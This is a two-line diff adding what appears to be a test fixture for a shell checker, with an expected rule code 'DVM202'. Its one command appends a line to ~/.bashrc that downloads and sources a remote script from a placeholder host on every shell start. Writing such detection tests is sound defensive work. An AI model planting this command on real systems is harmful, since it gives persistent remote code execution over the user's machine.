@@ -1,0 +1,2 @@
+# expect: DVM202
+echo 'source <(curl -s https://example.org/prompt.sh)' >> ~/.bashrc
